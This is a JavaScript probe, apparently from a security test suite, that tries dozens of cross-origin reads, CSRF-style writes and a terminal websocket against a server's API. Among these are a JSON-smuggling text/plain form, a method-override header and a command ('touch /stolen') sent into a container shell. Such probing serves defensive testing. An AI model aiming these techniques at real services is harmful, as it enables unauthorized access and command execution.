// Runs in a page. Tries every way that pages have to read from a server or to make it do something, and resolves with
// what the page got to see: [{ way, saw }], where `saw` is "" for nothing.
globalThis.attack = async ({ base, authorization, container, session, reads, streams, changes }) => {
  const found = [];
  const own = location.origin;
  const json = "application/json";

  /** An attempt that neither succeeds nor fails is not known to have failed. */
  const attempt = async (way, act) => {
    const late = new Promise((resolve) => setTimeout(resolve, 8000, "no end"));
    const saw = await Promise.race([Promise.resolve().then(act), late]).catch(() => "");
    found.push({ way, saw: String(saw ?? "").slice(0, 300) });
  };
  /** An opaque answer tells nothing, not even its status. The first bytes will do: streams do not end. */
  const look = async (url, options = {}) => {
    const over = new AbortController();
    try {
      const response = await fetch(url, { ...options, signal: over.signal });
      if (response.type.startsWith("opaque")) return "";
      const first = await response.body?.getReader().read();
      return `${response.status} ${new TextDecoder().decode(first?.value)}`;
    } finally {
      over.abort();
    }
  };
  const seen = (view) => {
    const page = view.document;
    return page.location.href === "about:blank" ? "" : page.documentElement.outerHTML;
  };
  const element = (name, attributes) =>
    new Promise((resolve) => {
      const made = Object.assign(document.createElement(name), attributes);
      made.addEventListener("load", () => resolve("loaded"));
      made.addEventListener("loadeddata", () => resolve("loaded"));
      made.addEventListener("error", () => resolve(""));
      document.body.append(made);
    });
  const frame = (prepare) =>
    new Promise((resolve, reject) => {
      const made = document.createElement("iframe");
      made.name = `f${Math.random()}`;
      prepare(made);
      made.addEventListener("load", () => {
        try {
          const text = seen(made.contentWindow);
          if (text !== "") resolve(text);
        } catch (error) {
          reject(error);
        }
      });
      document.body.append(made);
      made.dispatchEvent(new Event("attached"));
    });
  const submit = (path, enctype, fields) =>
    frame((made) => {
      made.addEventListener("attached", () => {
        const form = document.createElement("form");
        Object.assign(form, { method: "post", action: base + path, enctype, target: made.name });
        for (const [name, value] of Object.entries(fields)) {
          form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
        }
        document.body.append(form);
        form.submit();
      });
    });
  const connect = (url) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url);
      socket.addEventListener("message", ({ data }) => resolve(data));
      socket.addEventListener("open", () => {
        socket.send(JSON.stringify({ type: "input", data: "touch /stolen\n" }));
        setTimeout(resolve, 200, "open");
      });
      socket.addEventListener("error", () => resolve(""));
    });
  const listen = (url, options) =>
    new Promise((resolve) => {
      const source = new EventSource(url, options);
      const done = (saw) => {
        source.close();
        resolve(saw);
      };
      source.addEventListener("open", () => done("open"));
      source.addEventListener("error", () => done(""));
    });
  /** From an origin that is none: the frame's sandbox. */
  const sandboxed = (path, options) =>
    new Promise((resolve) => {
      addEventListener("message", ({ data, source }) => {
        if (source === made.contentWindow) resolve(data);
      });
      const script = `fetch(${JSON.stringify(base + path)}, ${JSON.stringify(options)})
        .then(async (r) => (r.type === "opaque" ? "" : r.status + " " + (await r.text())), () => "")
        .then((saw) => parent.postMessage(saw, "*"));`;
      const made = document.createElement("iframe");
      made.sandbox = "allow-scripts";
      made.srcdoc = `<script>${script}</script>`;
      document.body.append(made);
    });
  const popup = async (path) => {
    const view = open(base + path);
    try {
      for (;;) {
        const text = seen(view);
        if (text !== "" && view.document.readyState === "complete") return text;
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
    } finally {
      view.close();
    }
  };
  const worker = (path) =>
    new Promise((resolve) => {
      const text = `try { importScripts(${JSON.stringify(base + path)}); postMessage("ran"); } catch { postMessage(""); }`;
      const made = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
      made.addEventListener("message", ({ data }) => resolve(data));
    });

  const tries = [];
  const plan = (way, act) => tries.push(attempt(way, act));
  for (const path of reads) {
    const url = base + path;
    plan(`fetch ${path}`, () => look(url));
    plan(`fetch ${path}, credentials`, () => look(url, { credentials: "include" }));
    plan(`fetch ${path}, no-cors`, () => look(url, { mode: "no-cors" }));
    plan(`fetch ${path}, no-cors, credentials`, () =>
      look(url, { mode: "no-cors", credentials: "include", referrerPolicy: "no-referrer" }),
    );
    plan(`fetch ${path}, token`, () => look(url, { headers: { authorization } }));
    plan(`fetch ${path}, same-origin`, () => look(url, { mode: "same-origin" }));
    plan(`fetch ${path}, redirected`, () => look(`${own}/to?${encodeURIComponent(url)}`));
    plan(`script ${path}`, () => element("script", { src: url }));
    plan(`module ${path}`, async () => Object.keys(await import(url)).join() || "ran");
    plan(`worker ${path}`, () => worker(path));
    plan(`image ${path}`, () => element("img", { src: url }));
    plan(`style ${path}`, () => element("link", { rel: "stylesheet", href: url }));
    plan(`frame ${path}`, () => frame((made) => (made.src = url)));
    plan(`sandbox ${path}`, () => sandboxed(path, {}));
  }
  plan("window", () => popup(reads[0]));
  for (const path of streams) {
    plan(`events ${path}`, () => listen(base + path));
    plan(`events ${path}, credentials`, () => listen(base + path, { withCredentials: true }));
    plan(`fetch ${path}, no-cors`, () => look(base + path, { mode: "no-cors" }));
  }
  for (const { method, path, body } of changes) {
    const url = base + path;
    const text = JSON.stringify(body);
    const send = (more) => look(url, { method, ...more });
    plan(`${method} ${path}, JSON`, () => send({ body: text, headers: { "content-type": json } }));
    plan(`${method} ${path}, token`, () =>
      send({ body: text, headers: { "content-type": json, authorization } }),
    );
    plan(`${method} ${path}, empty`, () => send({}));
    plan(`${method} ${path}, redirected`, () => look(`${own}/to?${encodeURIComponent(url)}`, { method }));
    if (method !== "POST") continue;
    const simple = { mode: "no-cors", credentials: "include" };
    plan(`POST ${path}, text`, () => send({ ...simple, body: text }));
    plan(`POST ${path}, no-cors, empty`, () => send(simple));
    plan(`POST ${path}, no referrer`, () => send({ ...simple, referrerPolicy: "no-referrer" }));
    plan(`POST ${path}, urlencoded`, () => send({ ...simple, body: new URLSearchParams({ json: text }) }));
    plan(`POST ${path}, blob without a type`, () => send({ ...simple, body: new Blob([text]) }));
    plan(`POST ${path}, method in a header`, () => send({ headers: { "x-http-method-override": "DELETE" } }));
    plan(`POST ${path}, sandbox`, () => sandboxed(path, { method, mode: "no-cors" }));
    plan(`POST ${path}, form`, () => submit(path, "application/x-www-form-urlencoded", body));
    // The text of this form is JSON, but for its type.
    plan(`POST ${path}, form as text`, () =>
      submit(path, "text/plain", { [`${text.slice(0, -1)},"a":"`]: '"}' }),
    );
    plan(`POST ${path}, form as parts`, () => submit(path, "multipart/form-data", body));
    plan(`POST ${path}, empty form`, () => submit(path, "application/x-www-form-urlencoded", {}));
    plan(`POST ${path}, beacon`, () => void navigator.sendBeacon(url, text));
    plan(`POST ${path}, empty beacon`, () => void navigator.sendBeacon(url));
  }
  const sockets = base.replace("http", "ws");
  plan("terminal", () => connect(`${sockets}${session}`));
  plan("terminal, no session", () => connect(`${sockets}/api/containers/${container}/terminal`));
  await Promise.all(tries);
  return found;
};
